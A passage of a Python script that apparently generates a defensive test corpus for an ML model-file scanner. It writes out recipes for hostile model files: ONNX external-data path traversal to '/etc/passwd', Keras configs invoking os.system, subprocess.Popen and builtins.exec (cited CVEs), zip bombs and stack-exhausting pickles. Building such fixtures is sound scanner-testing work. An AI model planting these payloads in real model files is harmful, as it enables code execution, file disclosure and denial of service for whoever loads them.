    def st(name, header, buffer, why, pad=True):
        emit(d + name, safetensors(header, buffer, pad), MLG305, why)

    f16 = bytes(16)
    st("st_overlap.safetensors", {"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                                  "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}}, bytes(24),
       "safetensors: overlapping data_offsets [0,16] and [8,24] (attacks/README overlapping offsets)")
    st("st_gap.safetensors", {"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                              "b": {"dtype": "F32", "shape": [4], "data_offsets": [20, 36]}}, bytes(36),
       "safetensors: 4-byte hole between tensors (InvalidOffset: begin must equal previous end)")
    st("st_offset_past_eof.safetensors", {"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                                          "b": {"dtype": "F32", "shape": [1000000], "data_offsets": [16, 4000016]}},
       f16, "safetensors: data_offsets end 4000016 beyond the 16-byte buffer (out-of-file offsets)")
    short = struct.pack("<Q", 10000) + b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}' + bytes(4)
    emit(d + "st_header_length_past_eof.safetensors", short, MLG305,
         "safetensors: 8-byte header length 10000 but the file is %d bytes (InvalidHeaderLength)" % len(short))
    emit(d + "st_header_length_huge.safetensors", struct.pack("<Q", 2 ** 63 + 5) + b"{}", MLG305,
         "safetensors: header length 2^63+5 (> MAX_HEADER_SIZE 100,000,000 and past EOF; overflow bait)")
    st("st_dtype_shape_mismatch.safetensors", {"a": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 8]}},
       bytes(8), "safetensors: F32 [2,2] needs 16 bytes, offsets give 8 (TensorInvalidInfo)")
    st("st_shape_overflow.safetensors", {"a": {"dtype": "F32", "shape": [4294967296, 4294967296, 16],
                                               "data_offsets": [0, 16]}}, f16,
       "safetensors: shape product 2^68 overflows u64 (ValidationOverflow)")
    st("st_duplicate_keys.safetensors",
       '{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"w":{"dtype":"F32","shape":[4],"data_offsets":[16,32]}}',
       bytes(32), "safetensors: key 'w' twice (spec disallows duplicates; serde keeps one silently -> parser "
                  "differential)")
    st("st_metadata_not_string.safetensors", {"__metadata__": {"epochs": 3, "format": "pt"},
                                              "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}, f16,
       "safetensors: __metadata__ value is a number, must be a string->string map")
    st("st_trailing_bytes.safetensors", {"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}},
       f16 + b"PK\x05\x06" + bytes(18),
       "safetensors: 22 unindexed bytes after the last tensor (MetadataIncompleteBuffer: polyglot prevention)")
    st("st_end_before_begin.safetensors", {"a": {"dtype": "F32", "shape": [0], "data_offsets": [16, 0]},
                                           "b": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}, f16,
       "safetensors: data_offsets [16, 0] with end < begin (InvalidOffset)")
    st("st_negative_offset.safetensors", {"a": {"dtype": "F32", "shape": [4], "data_offsets": [-16, 0]}}, f16,
       "safetensors: negative data_offsets (usize expected; out-of-file offsets)")

    one = [gkv_str("general.architecture", "llama")]
    huge = gguf(one, [], b"", tensor_count=2 ** 40)
    emit(d + "gguf_tensor_count_huge.gguf", huge, MLG305,
         "GGUF v3 declaring 2^40 tensors in a %d-byte file (counts bounded by file size; llama.cpp #19856)" % len(huge))
    emit(d + "gguf_string_length_past_eof.gguf",
         b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 2 ** 40) + b"general.architecture", MLG305,
         "GGUF: KV key string length 2^40 past EOF (string exhaustion; llama.cpp #19856)")
    emit(d + "gguf_alignment_not_power_of_two.gguf", gguf(
        [gkv_str("general.architecture", "llama"), gkv_u32("general.alignment", 24)],
        [gtensor("w", [4], 0, 0)], bytes(16), alignment=24), MLG305,
        "GGUF: general.alignment = 24, not a power of two")
    emit(d + "gguf_duplicate_key.gguf", gguf(
        [gkv_str("general.architecture", "llama"), gkv_str("general.architecture", "gpt2")], [], b""), MLG305,
        "GGUF: KV key general.architecture twice (llama.cpp duplicate-key error)")
    emit(d + "gguf_tensor_data_past_eof.gguf", gguf(one, [gtensor("w", [1024], 0, 0)], bytes(32)), MLG305,
         "GGUF: F32 [1024] tensor needs 4096 bytes, data section has 32")
    emit(d + "gguf_dims_overflow.gguf", gguf(one, [gtensor("w", [2 ** 62, 2 ** 62], 0, 0)], bytes(32)), MLG305,
         "GGUF: dims 2^62 x 2^62 overflow the element count (CVE-2026-33298 class)")


def gen_onnx_external():
    d = "onnx-external/"
    cases = [
        ("dotdot", "../secret.bin", "location '../secret.bin' (CVE-2022-25882)"),
        ("dotdot_middle", "a/../../b.bin", "location 'a/../../b.bin': '..' not leading (CVE-2024-27318, bypass of "
                                           "the CVE-2022-25882 fix)"),
        ("absolute", "/etc/passwd", "absolute location '/etc/passwd' (CVE-2022-25882 class)"),
        ("backslash_dotdot", "..\\secret.bin", "location '..\\secret.bin' with a Windows separator (research 4.2: "
                                               "normalise both / and \\)"),
        ("drive_letter", "C:\\Windows\\win.ini", "location with a drive letter 'C:\\Windows\\win.ini' (research 4.2)"),
    ]
    for folder, loc, why in cases:
        emit(d + folder + "/model.onnx", onnx_model(location=loc, offset=0, length=64), MLG304,
             "ONNX external data escaping the model folder: " + why)

    emit(d + "symlink/model.onnx", onnx_model(location="weights.bin"), MLG304,
         "ONNX external data 'weights.bin' is a symlink created by generate.py pointing to /etc/hostname, outside "
         "the corpus (CVE-2026-27489 / CVE-2026-34447)")
    link = os.path.join(FILES, "onnx-external", "symlink", "weights.bin")
    if os.path.lexists(link):
        os.remove(link)
    os.symlink("/etc/hostname", link)
    SUPPORT.append("files/onnx-external/symlink/weights.bin")
    record_folder("onnx-external/symlink", MLG304,
                  "folder scan: model.onnx whose external data weights.bin is a symlink to /etc/hostname (absolute, "
                  "outside the corpus; dangling where /etc/hostname does not exist)")

    emit(d + "length_past_eof/model.onnx", onnx_model(location="weights.bin", offset=32, length=4096), MLG305,
         "ONNX external data offset 32 + length 4096 beyond the 64-byte weights.bin (research 4.2 offset+length <= "
         "file size)")
    support(d + "length_past_eof/weights.bin", FLOATS16)


def gen_keras():
    d = "keras/"
    lambda_layer = keras_obj("keras.layers", "Lambda", {
        "name": "lambda", "trainable": True, "dtype": "float32",
        "function": {"class_name": "__lambda__", "config": {
            "value": [base64.b64encode(MARSHAL_LAMBDA_CODE).decode("ascii"), None, None]}},
        "output_shape": None, "arguments": {}}, build=[None, 4])
    emit(d + "lambda_layer.keras", keras_zip(keras_model([dense("dense", 8), lambda_layer])), MLG306,
         "Keras v3 config.json with a Lambda layer whose function is base64 marshalled bytecode calling os.system "
         "(CVE-2024-3660; modelscan Lambda rule)")
    evil_activation = dense("dense", 8, activation={"module": "os", "class_name": "function", "config": "system",
                                                    "registered_name": None})
    emit(d + "module_os_function.keras", keras_zip(keras_model([evil_activation])), MLG306,
         "Keras v3 Dense activation {'module': 'os', 'class_name': 'function', 'config': 'system'}: arbitrary module "
         "import even with safe_mode (CVE-2025-1550)")
    reg = dense("dense", 8)
    reg["registered_name"] = "subprocess>Popen"
    emit(d + "registered_name_subprocess.keras", keras_zip(keras_model([reg])), MLG306,
         "Keras v3 layer with registered_name 'subprocess>Popen': a custom-object reference to code outside keras "
         "(CVE-2025-1550 class)")
    layer_module = dense("dense", 8)
    layer_module["module"] = "builtins"
    layer_module["class_name"] = "exec"
    emit(d + "layer_module_builtins.keras", keras_zip(keras_model([layer_module])), MLG306,
         "Keras v3 layer {'module': 'builtins', 'class_name': 'exec'}: module root not in keras/tensorflow/tf_keras/"
         "numpy/math (CVE-2025-1550; research 2.5)")
    k2_config = {"class_name": "Sequential", "config": {"name": "sequential", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32",
                                                "name": "input_1"}},
        {"class_name": "Lambda", "config": {
            "name": "lambda", "trainable": True, "dtype": "float32",
            "function": [base64.encodebytes(MARSHAL_LAMBDA_CODE).decode("ascii"), None, None],
            "function_type": "lambda", "module": "__main__", "output_shape": None, "output_shape_type": "raw",
            "output_shape_module": None, "arguments": {}}}]}}
    attrs = b"".join(b"\x00" + name + b"\x00" + value for name, value in [
        (b"backend", b"tensorflow"), (b"keras_version", b"2.12.0"),
        (b"model_config", json.dumps(k2_config).encode("utf-8"))])
    emit(d + "lambda_layer.h5", h5_placeholder(attrs), MLG306,
         "HDF5 signature + superblock, then a model_config attribute JSON (Keras 2) with a Lambda layer carrying "
         "marshalled bytecode (CVE-2024-3660; modelscan H5 Lambda rule); not a complete HDF5 file")


def gen_unparseable():
    d = "unparseable/"
    rnd = bytearray(pseudo_random("mlbuildguard-corpus-random", 4096))
    rnd[0] = 0xFF  # not a pickle opcode, no known magic
    emit(d + "random.bin", bytes(rnd), MLG303,
         "4096 pseudo-random bytes (SHA-256 counter stream), first byte 0xFF: no format recognised -> fail closed")
    emit(d + "empty.pt", b"", MLG303, "empty file with a PyTorch extension")
    emit(d + "text_as_pickle.pkl", b"This is not a pickle, it is a note.\n", MLG303,
         "plain text named .pkl ('T' reads as BINSTRING with a length past EOF)")
    emit(d + "lfs_pointer.bin", b"version https://git-lfs.github.com/spec/v1\noid sha256:"
         + hashlib.sha256(b"mlbuildguard").hexdigest().encode() + b"\nsize 1048576\n", MLG303,
         "Git LFS pointer instead of the model (text; 'v' is not a pickle opcode)")
    data_pkl, storages = torch_dump(state_dict())
    full = torch_zip(data_pkl, storages)
    emit(d + "truncated_zip.pt", full[:len(full) * 3 // 5], MLG303,
         "PyTorch zip cut at 60%: no central directory / EOCD")
    emit(d + "joblib_lz4.joblib", lz4_frame_uncompressed(pickle.dumps({"w": [1.0, 2.0]}, protocol=4)), MLG303,
         "valid LZ4 frame (04 22 4D 18, one uncompressed block) holding a benign pickle: lz4 is not supported -> fail "
         "closed")
    aes_extra = struct.pack("<HHH2sBH", 0x9901, 7, 2, b"AE", 3, 8)
    emit(d + "zip_aes_method99.pt", zip_bytes([
        {"name": "archive/data.pkl", "method": 99, "flags": 0x1, "raw": pseudo_random("aes-entry", 60), "crc": 0,
         "usize": 40, "extra": aes_extra},
        {"name": "archive/version", "data": b"3\n"}]), MLG303,
        "zip entry archive/data.pkl with method 99 (WinZip AES, extra 0x9901) and flag 0x1: cannot be decompressed")
    plain = pickle.dumps({"w": [1.0, 2.0]}, protocol=2)
    crc = zlib.crc32(plain) & 0xFFFFFFFF
    emit(d + "zip_zipcrypto.zip", zip_bytes([
        {"name": "data.pkl", "raw": zipcrypto_encrypt(plain, b"mlbuildguard", crc), "crc": crc,
         "usize": len(plain), "flags": 0x1}]), MLG303,
        "password-protected (ZipCrypto) data.pkl, password 'mlbuildguard', benign content: unreadable without the "
        "password -> fail closed (picklescan benign_password_protected.zip / issue #39)")


def gen_limits():
    d = "limits/"
    # 2.5 GiB pickle: PROTO 2, BINBYTES of 2.5 GiB - 8 zero bytes, STOP. bzip2 compresses it to ~2 KB.
    total = 5 << 29  # 2,684,354,560 bytes (fits the 32-bit zip size fields)
    blob_len = total - 2 - 5 - 1
    comp = bz2.BZ2Compressor(9)
    parts = [comp.compress(PROTO(2) + b"B" + struct.pack("<I", blob_len))]
    chunk = bytes(64 << 20)
    left = blob_len
    crc = zlib.crc32(PROTO(2) + b"B" + struct.pack("<I", blob_len))
    while left:
        n = min(left, len(chunk))
        parts.append(comp.compress(chunk[:n]))
        crc = zlib.crc32(chunk[:n], crc)
        left -= n
    parts.append(comp.compress(STOP))
    crc = zlib.crc32(STOP, crc) & 0xFFFFFFFF
    parts.append(comp.flush())
    bomb = b"".join(parts)
    emit(d + "zip_bomb_bzip2_2_5gib.pt", zip_bytes([
        {"name": "archive/data.pkl", "method": 12, "raw": bomb, "crc": crc, "usize": total},
        {"name": "archive/version", "data": b"3\n"}]), MLG307,
        "zip bomb: archive/data.pkl (bzip2, method 12) inflates to 2,684,354,560 bytes (a BINBYTES of zeros) from "
        "%d bytes; ratio ~%dx" % (len(bomb), total // len(bomb)))
    emit(d + "bzip2_bomb_2_5gib.joblib", bomb, MLG307,
         "joblib-style bzip2 stream inflating to 2,684,354,560 bytes (same pickle as the zip bomb) from %d bytes"
         % len(bomb))

    inner = zip_bytes([{"name": "data.pkl", "data": pickle.dumps({"w": [1.0]}, protocol=2)}])
    for level in range(9):
        inner = zip_bytes([{"name": "nested_%d.zip" % (9 - level), "data": inner}])
    emit(d + "nested_zip_depth10.zip", inner, MLG307,
         "10 nested zip levels (nested_1.zip ... nested_9.zip, innermost data.pkl is a benign dict): nesting limit")

    n = 300000
    emit(d + "deep_list_300k.pkl", PROTO(2) + EMPTY_LIST * n + APPEND * (n - 1) + STOP, MLG307,
         "raw pickle: 300,000 EMPTY_LIST then 299,999 APPEND -> stack depth 300,000 / list nesting 300,000 (600 KB); "
         "needs a stack limit below 300,000")
    n = 200000
    emit(d + "deep_mark_200k.pkl", PROTO(2) + MARK * n + LIST * n + STOP, MLG307,
         "raw pickle: 200,000 MARK then 200,000 LIST -> mark stack depth 200,000, lists nested 200,000 deep (400 KB); "
         "needs a stack/mark limit below 200,000")
    # 2,000,000 pushes in a zlib (joblib compress) stream; irregular enough that the compression ratio stays far
    # below bomb thresholds, so the stack limit is what trips.
    state = 12345
    seq = bytearray()
    fillers = [EMPTY_LIST, EMPTY_DICT, EMPTY_TUPLE, NONE]
    while len(seq) < 2000000:
        state = (state * 1103515245 + 12345) & 0x7FFFFFFF
        seq += MARK if (state >> 16) % 40 else fillers[(state >> 8) & 3]
    deep = PROTO(2) + bytes(seq) + NONE + STOP
    z = joblib_zlib(deep)
    emit(d + "deep_stack_2m.joblib", z, MLG307,
         "joblib zlib stream of a pickle with 2,000,000 pushes (about 1,950,000 MARK + 50,000 empty containers/None, "
         "never popped) -> stack+mark depth 2,000,001; inflates %d -> %d bytes (ratio ~%d, not a bomb)"
         % (len(z), len(deep), len(deep) // len(z)))


def main():
    if os.path.isdir(FILES):
        shutil.rmtree(FILES)
    os.makedirs(FILES)
    gen_benign()
    gen_pickle_malicious()
    gadget_cases.generate(sys.modules[__name__])
    gen_container_malicious()
    gen_unknown_import()
    gen_invalid_header()
    gen_onnx_external()
    gen_keras()
    gen_unparseable()
    gen_limits()

    ENTRIES.sort(key=lambda e: e["file"])
    names = [e["file"] for e in ENTRIES if os.path.isfile(os.path.join(HERE, e["file"]))]
    assert len(ENTRIES) == len(set(e["file"] for e in ENTRIES)), "duplicate manifest entries"
    assert not set(names) & set(SUPPORT), "a support file has a manifest entry"
    names = sorted(names + SUPPORT)
    on_disk = sorted("files/" + os.path.relpath(os.path.join(root, f), FILES).replace(os.sep, "/")
                     for root, _, fs in os.walk(FILES) for f in fs)
    assert on_disk == names, "manifest and files/ differ: %s" % sorted(set(on_disk) ^ set(names))
    # Entries for real/files/ and formats/files/ belong to real/make_real.py and formats/make_formats.py: keep them.
    kept = []
    if os.path.exists(MANIFEST):
        with open(MANIFEST, encoding="utf-8") as f:
            kept = [e for e in json.load(f) if e["file"].startswith(("real/files/", "formats/files/"))]
    with open(MANIFEST, "w", encoding="utf-8", newline="\n") as f:
        json.dump(sorted(ENTRIES + kept, key=lambda e: e["file"]), f, indent=2, ensure_ascii=False)
        f.write("\n")

    counts = collections.Counter(json.dumps(e["expect"]) for e in ENTRIES)
    print("wrote %d files under %s: %d manifest entries (%d of them folders), %d support files"
          % (len(on_disk), FILES, len(ENTRIES), len(ENTRIES) - (len(names) - len(SUPPORT)), len(SUPPORT)))
    for k, v in sorted(counts.items()):
        print("  %-24s %d" % (json.loads(k) if k.startswith('"') else k, v))


if __name__ == "__main__":
    main()
